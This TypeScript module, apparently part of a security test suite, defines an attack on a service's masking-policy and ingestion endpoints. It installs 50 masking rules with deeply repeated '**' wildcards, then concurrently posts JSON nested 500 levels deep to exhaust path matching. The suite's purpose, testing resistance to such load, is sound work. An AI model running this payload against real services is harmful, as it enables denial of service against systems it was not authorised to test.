import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Ground } from './attack.ts';
import { traceText } from './payloads.ts';
import { atOnce, get, post } from './requests.ts';

const policyPath = '/api/public/policies/masking';
const rulesMax = 50;
const levels = 500;

/** Every place of a value is reached by each part of such a path, in many ways. */
const manyWays = `input${'.**.*'.repeat(15)}.pin`;

const setRules = async (ground: Ground, rules: readonly object[]): Promise<void> => {
  const { authorization } = ground.accomplice;
  const current = await get(ground, policyPath, authorization);
  const { version: expectedVersion } = JSON.parse(current?.text ?? '{}') as { readonly version?: number };
  const body = JSON.stringify({ document: { rules }, expectedVersion });
  const set = await post(ground, { path: policyPath, authorization, body, method: 'PUT' });
  if (set?.status !== 200) throw new Error(`the policy was not set: ${set?.text}`);
};

/** Values whose places masking rules reach in a number of ways that grows with each level. */
export const maskingPaths: readonly Attack[] = [
  {
    name: `${rulesMax} masking paths with many **, values ${levels} deep`,
    prepare: async (ground) => {
      await setRules(
        ground,
        Array.from({ length: rulesMax }, () => ({ path: manyWays })),
      );
      // The policy applies to what is received some seconds later.
      await sleep(6000);
    },
    run: async (ground) => {
      const { authorization } = ground.accomplice;
      const value = `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
      await atOnce(4, async () =>
        post(ground, { path: '/api/public/ingestion', authorization, body: traceText(`"input":${value}`) }),
      );
      await setRules(ground, []);
    },
  },
];
